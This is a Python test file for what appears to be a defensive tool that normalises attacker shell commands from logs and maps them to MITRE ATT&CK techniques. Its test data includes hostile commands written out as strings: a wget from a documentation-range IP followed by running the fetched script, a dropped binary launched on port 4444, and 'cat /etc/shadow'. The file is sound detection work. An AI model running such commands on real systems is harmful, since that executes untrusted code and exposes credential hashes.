import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from clew.analysis.coordination import canonical
from clew.analysis.coordination.techniques import RULES, techniques


def steps(command: str) -> list[str]:
    found = pl.DataFrame({"x": [command]}).select(canonical.steps(pl.col("x"))).item()
    return list(found)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("uname -a", ["uname -a"]),
        ("cd /tmp; wget http://192.0.2.1/a.sh && sh a.sh", ["cd /tmp", "wget <url>", "sh a.sh"]),
        ("/bin/busybox ECCHI", ["/bin/busybox <name>"]),
        ("/bin/busybox wget", ["/bin/busybox wget"]),
        ("mkdir -p /var/tmp/.q9f3a1", ["mkdir -p /var/tmp/.<name>"]),
        ("ping 198.51.100.7", ["ping <ip>"]),
        ("echo -e '\\x6F\\x6B'", ["echo -e '<bytes>'"]),
        ("echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d", ["echo <base64>", "base64 -d"]),
        ("cat x86_64   arm7", ["cat x86_64 arm7"]),
        ("", []),
        (" ;; ", []),
    ],
)
def test_what_differs_becomes_a_slot(command: str, expected: list[str]) -> None:
    assert steps(command) == expected


def test_two_runs_of_one_script_are_the_same() -> None:
    one = steps("cd /tmp; wget http://192.0.2.1/x; ./k3j9d8f2 -p 4444")
    assert one == steps("cd /tmp; wget http://203.0.113.9/y; ./z8x7c6v5 -p 5555")


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300))
def test_any_text_is_read(command: str) -> None:
    assert all(step and step == step.strip(" \t\n") for step in steps(command))
    frame = pl.DataFrame({"x": [command]})
    frame.select(canonical.literals(pl.col("x")), canonical.host(pl.col("x")).alias("h"))


def test_literals_are_kept_beside_the_slots() -> None:
    found = pl.DataFrame({"x": ["echo q9f3a1d > /tmp/.q9f3a1d"]}).select(canonical.literals(pl.col("x"))).item()
    assert list(found) == ["q9f3a1d"]


def test_techniques_are_told_once_for_a_command() -> None:
    told = techniques(["uname -a; uname -m", "uname -a; uname -m", "cat /etc/shadow", "echo hello"])
    assert [(each.id, each.count) for each in told] == [("T1082", 2), ("T1003.008", 1)]
    assert techniques([]) == ()


def test_rules_have_names_of_their_own() -> None:
    assert len({rule.name for rule in RULES}) == len(RULES)
    assert len({(rule.id, rule.technique) for rule in RULES}) == len({rule.id for rule in RULES})
